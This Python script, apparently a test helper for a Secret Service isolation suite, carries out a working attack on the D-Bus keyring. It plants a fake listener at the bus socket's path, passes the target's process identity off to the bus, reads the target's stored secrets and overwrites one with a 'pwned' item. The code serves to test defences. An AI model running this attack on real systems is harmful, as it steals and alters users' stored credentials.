#!/usr/bin/env python3
"""The third review's Secret Service attack (issue 50, point 1), for SecretServiceIsolationTests: a connection
that is not the target's own, made to look like it by a listener of the attacker's bound to the bus socket's
*name*.

The attacker authenticates to the real bus and holds back its Hello (or, with MODE "stopped", says Hello with
the agent stopped). It binds a listener of its own to the bus socket's name — the user owns the socket's
directory: the real socket is renamed aside, the listener bound at its name, the listener's file renamed
away and the real socket put back — forks, and execs TARGET in the connecting process, pointed at that
listener. Once the target has connected to it, the child says Hello on the connection the target's process
made (or lets the stopped agent go on) and asks the Secret Service for the target's items: reads them, and
overwrites the one with ATTRIBUTES. The target then holds one close-on-exec socket whose peer's *address* is
the bus's, and its process is the one the bus daemon records for the attacker's connection.

Usage: bus-fake-listener.py RESULT-FILE BUS-SOCKET MODE AGENT-PID ATTRIBUTES-JSON TARGET [ARGUMENT ...]
MODE is "hello-later" or "stopped". The result file gets one line per call the child makes: "ok <what it
got>" or "error <D-Bus error name>".
"""
import json
import os
import signal
import socket
import sys

from stopping import stop_and_wait

from jeepney import DBusAddress, new_method_call
from jeepney.io.blocking import DBusConnection, prep_socket



result, bus_path, mode, agent_pid, attributes = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), json.loads(sys.argv[5])
target = sys.argv[6:]
service = DBusAddress("/org/freedesktop/secrets", bus_name="org.freedesktop.secrets", interface="org.freedesktop.Secret.Service")

# The connection the target's process makes (Python's sockets close at exec: only the child keeps it).
raw = prep_socket(bus_path) if mode == "hello-later" else None
connection = None
if mode == "stopped":
    stop_and_wait(agent_pid)
    connection = DBusConnection(prep_socket(bus_path))

# A listener bound to the bus socket's name, reachable at another path.
fake_path = bus_path + ".fake"
aside = bus_path + ".aside"
os.rename(bus_path, aside)
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    listener.bind(bus_path)
    listener.listen(4)
    os.rename(bus_path, fake_path)
finally:
    os.rename(aside, bus_path)

ready_read, ready_write = os.pipe()
child = os.fork()
if child:
    os.close(ready_read)
    environment = dict(os.environ, DBUS_SESSION_BUS_ADDRESS="unix:path=" + fake_path)
    os.execve(target[0], target, environment)  # ready_write closes at exec: the child learns the target runs.

os.close(ready_write)
os.read(ready_read, 1)
held, _ = listener.accept()  # The target connected to the listener: its socket's peer has the bus's name.
if mode == "hello-later":
    connection = DBusConnection(raw)
else:
    os.kill(agent_pid, signal.SIGCONT)


def call(address, method, signature, *arguments):
    reply = connection.send_and_get_reply(new_method_call(address, method, signature, arguments), timeout=10)
    if reply.header.message_type.name == "error":
        raise RuntimeError(reply.header.fields.get(4, "error"))
    return reply.body


lines = []
try:
    unlocked, _ = call(service, "SearchItems", "a{ss}", attributes)
    lines.append(f"ok found {len(unlocked)}")
    _, session = call(service, "OpenSession", "sv", "plain", ("s", ""))
    secrets = call(service, "GetSecrets", "aoo", unlocked, session)[0]
    lines.append("ok secrets " + ",".join(bytes(value[2]).decode(errors="replace") for value in secrets.values()))
    collection = DBusAddress("/org/freedesktop/secrets/aliases/default", bus_name="org.freedesktop.secrets",
                             interface="org.freedesktop.Secret.Collection")
    properties = {"org.freedesktop.Secret.Item.Label": ("s", "pwned"),
                  "org.freedesktop.Secret.Item.Attributes": ("a{ss}", attributes)}
    call(collection, "CreateItem", "a{sv}(oayays)b", properties, (session, b"", b"pwned", "text/plain"), True)
    lines.append("ok overwrote")
except RuntimeError as failure:
    lines.append(f"error {failure.args[0]}")
held.close()  # The target sees its bus go away and ends.
os.unlink(fake_path)
with open(result + ".partial", "w") as out:
    out.write("\n".join(lines) + "\n")
os.rename(result + ".partial", result)
